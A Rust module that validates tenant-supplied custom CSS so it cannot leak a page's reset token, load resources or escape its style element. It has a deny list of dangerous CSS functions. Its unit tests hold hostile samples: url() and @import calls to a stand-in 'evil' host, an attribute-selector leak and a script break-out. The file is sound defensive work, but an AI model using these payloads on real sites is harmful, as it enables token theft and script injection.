//! Screening of `branding.custom_css`. A tenant's CSS shares the page with a reset token,
//! and CSS alone can leak it: an attribute selector plus a `url()` per guessed prefix sends
//! the token to another host one character at a time. So the CSS may style, never fetch or
//! select on attribute values, and cannot break out of its `<style>` element.

use crate::{error::ValueError, limits};

/// Constructs that load a resource, run script (old IE) or import more CSS. Checked after
/// lowercasing and removing comments and whitespace, so `URL (` or `u/**/rl(` do not slip by.
const FORBIDDEN: &[(&str, &str)] = &[
    ("url(", "url() loads a resource"),
    ("@import", "@import loads more CSS"),
    ("expression(", "expression() runs script in old browsers"),
    ("image(", "image() loads a resource"),
    ("image-set(", "image-set() loads a resource"),
    ("cross-fade(", "cross-fade() loads a resource"),
    ("element(", "element() copies page content"),
    ("src(", "src() loads a resource"),
    ("attr(", "attr() copies attribute values into the page"),
    ("@font-face", "@font-face loads a resource"),
    ("@namespace", "@namespace is not needed"),
    ("javascript:", "javascript: URLs run script"),
    ("behavior:", "behavior runs script in old browsers"),
    ("-moz-binding", "-moz-binding runs script in old browsers"),
];

/// Accepts CSS that only styles; the error names the first construct that could fetch,
/// exfiltrate or escape.
pub(super) fn check(css: &str) -> Result<(), ValueError> {
    if css.len() > limits::MAX_CUSTOM_CSS_BYTES {
        return Err(ValueError::new(format!(
            "custom CSS is at most {} bytes (found {})",
            limits::MAX_CUSTOM_CSS_BYTES,
            css.len()
        )));
    }
    if css.contains("</") {
        return Err(ValueError::new(
            "custom CSS may not contain '</' (it could close the <style> element)",
        ));
    }
    if css.contains('<') {
        return Err(ValueError::new("custom CSS may not contain '<'"));
    }
    if css.contains('\\') {
        return Err(ValueError::new(
            "custom CSS may not contain '\\' escapes (they can hide forbidden functions)",
        ));
    }
    if css.contains('[') {
        return Err(ValueError::new(
            "custom CSS may not use attribute selectors ('['): they can leak the reset token",
        ));
    }
    if css
        .chars()
        .any(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
    {
        return Err(ValueError::new(
            "custom CSS may not contain control characters",
        ));
    }
    let squashed = squash(css);
    for (needle, why) in FORBIDDEN {
        if squashed.contains(needle) {
            return Err(ValueError::new(format!(
                "custom CSS may not use {needle}: {why}"
            )));
        }
    }
    Ok(())
}

/// Lowercase, without comments and whitespace.
fn squash(css: &str) -> String {
    let lower = css.to_lowercase();
    let mut out = String::with_capacity(lower.len());
    let mut rest = lower.as_str();
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        rest = match rest[start + 2..].find("*/") {
            Some(end) => &rest[start + 2 + end + 2..],
            None => "",
        };
    }
    out.push_str(rest);
    out.retain(|c| !c.is_whitespace());
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn plain_styling_passes() {
        assert!(
            check(".button { border-radius: 8px; font-weight: 600 }\nh1 { letter-spacing: .02em }")
                .is_ok()
        );
    }

    #[test]
    fn exfiltration_and_escapes_are_refused() {
        for (css, why) in [
            ("a{background:url(//evil/?)}", "url("),
            ("a{background:URL (//evil)}", "url("),
            ("a{background:u/**/rl(//evil)}", "url("),
            ("@import 'https://evil/x.css';", "@import"),
            ("input[value^=a]{color:red}", "attribute selectors"),
            ("a{background:\\75rl(x)}", "escapes"),
            ("</style><script>alert(1)</script>", "</"),
            ("a{width:expression(alert(1))}", "expression("),
            ("a::after{content:attr(href)}", "attr("),
            ("@font-face{font-family:x}", "@font-face"),
        ] {
            let err = check(css).unwrap_err();
            assert!(err.0.contains(why), "{css}: {err}");
        }
        assert!(
            check(&"a{}".repeat(3000))
                .unwrap_err()
                .0
                .contains("8192 bytes")
        );
    }
}
